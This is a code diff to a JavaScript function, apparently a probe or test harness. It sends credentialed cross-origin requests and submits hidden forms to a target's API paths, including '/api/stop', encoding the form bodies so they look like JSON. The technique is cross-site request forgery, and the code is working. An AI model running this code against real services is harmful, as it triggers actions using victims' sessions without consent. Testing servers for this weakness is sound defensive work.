@@ -40,20 +40,22 @@ async (target) => {
     }
     all.push(read(`get ${path}`, path, { mode: "no-cors", credentials: "include" }));
   }
-  // Forms: into a frame, as text that looks like JSON, and in the usual way.
-  for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
-    for (const [path, body] of Object.entries(commands)) {
-      const frame = document.createElement("iframe");
-      frame.name = `frame-${Math.random()}`;
-      document.body.append(frame);
-      const form = document.createElement("form");
-      Object.assign(form, { method: "POST", action: target + path, enctype, target: frame.name });
-      const input = document.createElement("input");
-      [input.name, input.value] = [body.slice(0, -1), "}"];
-      form.append(input);
-      document.body.append(form);
-      form.submit();
-    }
+  // Forms, each into a frame: as text that looks like JSON, and in the usual ways.
+  const forms = Object.entries(commands).map(([path, body]) => ["text/plain", path, body]);
+  for (const enctype of ["application/x-www-form-urlencoded", "multipart/form-data"]) {
+    forms.push([enctype, "/api/stop", commands["/api/stop"]]);
+  }
+  for (const [enctype, path, body] of forms) {
+    const frame = document.createElement("iframe");
+    frame.name = `frame-${Math.random()}`;
+    document.body.append(frame);
+    const form = document.createElement("form");
+    Object.assign(form, { method: "POST", action: target + path, enctype, target: frame.name });
+    const input = document.createElement("input");
+    [input.name, input.value] = [body.slice(0, -1), "}"];
+    form.append(input);
+    document.body.append(form);
+    form.submit();
   }
   // Elements that load what they name.
   const element = (name, attributes) => soon((resolve) => {
